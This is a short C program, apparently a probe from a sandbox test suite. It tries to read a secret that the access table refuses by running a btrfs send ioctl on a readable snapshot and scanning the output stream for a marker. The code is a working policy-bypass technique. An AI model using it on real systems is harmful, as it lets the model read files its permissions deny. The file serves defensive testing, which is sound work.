/* btrfs_send.c SNAPSHOT OUT: read a file the table refuses through btrfs send (gap44).  The
 * read-only subvolume SNAPSHOT is opened (a directory the table lets be read; the secret
 * inside it is refused), and BTRFS_IOC_SEND writes the stream of every file below it --
 * contents included -- into OUT, a file the table lets be written and read.  ESCAPED when
 * the stream holds the secret; BLOCKED with the failing step's errno otherwise.  Root
 * (CAP_SYS_ADMIN) and a btrfs (the test mounts an image).
 */
#include "attack.h"

#include <linux/btrfs.h>
#include <sys/ioctl.h>

int main(int argc, char **argv) {
    if (argc != 3)
        blocked("usage: %s SNAPSHOT OUT", argv[0]);
    int dir = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0)
        blocked("open %s: %s", argv[1], ename(errno));
    int out = open(argv[2], O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (out < 0)
        blocked("open %s: %s", argv[2], ename(errno));
    struct btrfs_ioctl_send_args args;
    memset(&args, 0, sizeof args);
    args.send_fd = out;
    if (ioctl(dir, BTRFS_IOC_SEND, &args) < 0)
        blocked("BTRFS_IOC_SEND %s: %s", argv[1], ename(errno));
    static char stream[1 << 20];
    ssize_t n = pread(out, stream, sizeof stream, 0);
    if (n > 0 && memmem(stream, (size_t)n, SECRET_MAGIC, strlen(SECRET_MAGIC)))
        escaped("read the secret in %s's send stream (%zd bytes)", argv[1], n);
    blocked("the stream (%zd bytes) holds no secret", n);
}
